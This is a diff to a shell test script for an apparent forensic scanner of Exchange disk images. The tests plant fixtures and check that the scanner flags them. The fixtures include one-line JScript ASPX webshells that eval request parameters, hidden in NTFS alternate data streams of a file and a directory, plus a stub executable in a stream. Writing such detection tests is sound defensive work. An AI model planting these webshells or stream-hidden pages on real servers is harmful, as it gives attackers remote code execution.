@@ -43,6 +43,8 @@ cp -r "$R/." "$MNT/"
 printf 'readme\n' >"$MNT/$AC/readme.txt"
 printf '<%%@ Page Language="Jscript"%%><%%eval(Request.Item["ads"],"unsafe");%%>\n' \
 	>"$MNT/$AC/readme.txt:cmd.aspx"
+# a page in a stream of the web directory itself
+printf '<%%@ Page Language="Jscript"%%><%%eval(Request.Item["dir"],"unsafe");%%>\n' >"$MNT/$AC:dir.aspx"
 # an executable in a stream
 { printf 'MZ\x90\x00\x03\x00\x00\x00'; head -c 2000 /dev/zero; } >"$MNT/$AC/readme.txt:tool.exe"
 printf '<%%@ Page Language="C#" %%><html><body>old</body></html>\n' >"$MNT/$AUTH/stomped.aspx"
@@ -123,10 +125,10 @@ json_check "VHDX: the root names the image, container and partition" \
 	'd["hosts"][0]["root"].endswith("disk.vhdx (VHDX, gpt partition 1 at offset 1048576, NTFS)")'
 json_check "VHDX: the Exchange layout and its build-less Bin found inside the image" \
 	'd["hosts"][0]["layout"]["exchange"] and d["hosts"][0]["layout"]["version"] == "V15"'
-json_check "VHDX: the page in a stream is a webshell, reported as path:stream" \
-	'[f for f in d["hosts"][0]["findings"] if f["path"] == "'"$AC"'/readme.txt:cmd.aspx" and f["kind"] == "webshell"]'
+json_check "VHDX: the pages in streams of a file and of a directory are webshells, reported as path:stream" \
+	'[f for f in d["hosts"][0]["findings"] if f["path"] == "'"$AC"'/readme.txt:cmd.aspx" and f["kind"] == "webshell"] and [f for f in d["hosts"][0]["findings"] if f["path"] == "'"$AC"':dir.aspx" and f["kind"] == "webshell"]'
 json_check "VHDX: server code and an executable in streams under a web directory are findings on their own" \
-	'sorted(f["path"].split(":")[1] for f in d["hosts"][0]["findings"] if f["rule"] == "ntfs-stream-code") == ["cmd.aspx", "tool.exe"]'
+	'sorted(f["path"].split(":")[1] for f in d["hosts"][0]["findings"] if f["rule"] == "ntfs-stream-code") == ["cmd.aspx", "dir.aspx", "tool.exe"]'
 json_check "VHDX: the deleted page is scanned and reported deleted" \
 	'[f for f in d["hosts"][0]["findings"] if f["path"] == "'"$AUTH"'/gone.aspx" and f["kind"] == "webshell" and f.get("deleted") is True]'
 json_check "VHDX: the back-dated page is a time-stomping finding with both times" \
